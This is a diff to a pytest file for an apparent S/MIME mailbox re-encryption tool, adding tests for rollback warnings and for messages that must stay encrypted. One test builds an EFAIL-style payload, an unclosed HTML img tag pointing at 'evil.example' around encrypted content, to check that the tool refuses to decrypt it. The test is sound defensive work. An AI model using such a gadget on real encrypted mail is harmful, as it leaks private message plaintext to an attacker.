@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -13,6 +14,7 @@ from sectool.errors import UsageError
 from sectool.keys import KeySpecification
 from sectool.message import BytesContent
 from sectool.outcome import State, Summary
+from sectool.progress import NoProgress
 from tests.support import checker, crash
 from tests.support.layers import (
     FOOTER,
@@ -31,6 +33,17 @@ NAME = "cur/1300000001.M1P1.host:2,S"
 EVERYTHING = smime.PartSelection(wrapped=True, break_signatures=True)
 LONG = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + b"Another text.\r\n" * 9
 WITH_SUBJECT = b'Content-Type: text/plain; hp="cipher"\r\nSubject: secret\r\n\r\nThe text.\r\n'
+
+
+class Warnings(NoProgress):
+    """Remembers what a person was warned of."""
+
+    def __init__(self) -> None:
+        self.warnings: list[str] = []
+
+    def warn(self, text: str, *, hint: str = "") -> None:
+        self.warnings.append(text)
+
 
 Around = Callable[[bytes], bytes]
 """From an entity, encrypted or in clear, to the message it stands in."""
@@ -258,6 +271,25 @@ def test_a_job_that_was_undone_may_be_begun_without_it(
     assert only(maildir) == before
 
 
+def test_undoing_opens_nested_mail_where_the_job_did_and_tells_what_stays(
+    specify: Specify, keys: Keys, tmp_path: Path
+) -> None:
+    maildir = tmp_path / "Maildir"
+    fits = PARTS["forward among parts"](encrypt(TEXT, keys.old))
+    does_not = PARTS["forward among parts"](encrypt(TEXT + b"\r", keys.old))
+    deliver(maildir, fits, does_not)
+    jobs.run(specify("decrypt", maildir, in_place=True, nested=True))
+    before = sorted(without_marks(mail.raw) for mail in checker.stored_mail(maildir))
+    jobs.run(specify("encrypt", maildir))
+    told = Warnings()
+    summary = jobs.run(specify("rollback", None, to_stage="decrypted"), progress=told)
+    assert summary.exit_code == 3
+    assert counts(summary) == {State.DECRYPTED: 1, State.REENCRYPTED: 1}
+    assert any("not put back in clear" in warning for warning in told.warnings)
+    after = sorted(without_marks(mail.raw) for mail in checker.stored_mail(maildir))
+    assert len(set(before) & set(after)) == 1
+
+
 # --- what stays encrypted all the same ----------------------------------------------------
 
 
@@ -282,6 +314,35 @@ def test_a_plaintext_that_would_end_what_is_around_it_stays_encrypted(
     assert counts(jobs.run(specify("encrypt", maildir))) == {State.REENCRYPTED: 2}
 
 
+@pytest.mark.parametrize("nested", [False, True], ids=["whole message", "forward"])
+def test_a_header_that_would_show_the_plaintext_in_other_text_keeps_it_encrypted(
+    nested: bool, specify: Specify, keys: Keys, tmp_path: Path
+) -> None:
+    """B57."""
+    maildir = tmp_path / "Maildir"
+    html = TEXT.replace(b"text/plain", b"text/html")
+    damaged = message(1, encrypt(html, keys.old), b"<img src='http://evil.example/?\r\n")
+    deliver(maildir, message(2, forward(damaged)) if nested else damaged)
+    census = checker.census(maildir)
+    summary = jobs.run(specify("decrypt", maildir, in_place=True, nested=nested))
+    assert (counts(summary), summary.exit_code) == ({State.CHECKPOINTED: 1}, 3)
+    assert "not the same to all readers" in summary.not_done[0].reason
+    assert checker.census(maildir) == census
+    assert counts(jobs.run(specify("encrypt", maildir))) == {State.REENCRYPTED: 1}
+
+
+def test_a_plaintext_that_would_be_another_in_the_mailbox_stays_encrypted(
+    specify: Specify, keys: Keys, tmp_path: Path
+) -> None:
+    maildir = tmp_path / "Maildir"
+    deliver(maildir, PARTS["forward among parts"](encrypt(TEXT + b"\r", keys.old)))
+    summary = jobs.run(specify("decrypt", maildir, in_place=True, nested=True))
+    assert (counts(summary), summary.exit_code) == ({State.CHECKPOINTED: 1}, 3)
+    assert "cannot stand in the mailbox" in summary.not_done[0].reason
+    assert not list((maildir / "tmp").iterdir())
+    assert counts(jobs.run(specify("encrypt", maildir))) == {State.REENCRYPTED: 1}
+
+
 def test_a_part_whose_number_is_not_its_own_stays_encrypted(
     specify: Specify, keys: Keys, tmp_path: Path
 ) -> None:
@@ -297,7 +358,7 @@ def test_a_part_whose_number_is_not_its_own_stays_encrypted(
     assert opened_layers(only(maildir), keys.new) == [TEXT]
 
 
-@pytest.mark.parametrize("name", ["triple wrap", "sandwich", "stranger"])
+@pytest.mark.parametrize("name", ["triple wrap", "sandwich", "stranger", "encoded forward"])
 def test_a_layer_that_keeps_its_recipients_keeps_its_message_encrypted(
     name: str, specify: Specify, keys: Keys, tmp_path: Path
 ) -> None:
@@ -306,6 +367,8 @@ def test_a_layer_that_keeps_its_recipients_keeps_its_message_encrypted(
         "triple wrap": clear_signed(inner),
         "sandwich": multipart(FOOTER, inner),
         "stranger": encrypt(TEXT, keys.stranger),
+        "encoded forward": b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64"
+        b"\r\n\r\n" + base64.encodebytes(message(2, inner)),
     }[name]
     deliver(maildir, message(1, encrypt(plaintext, keys.old)))
     before = only(maildir)
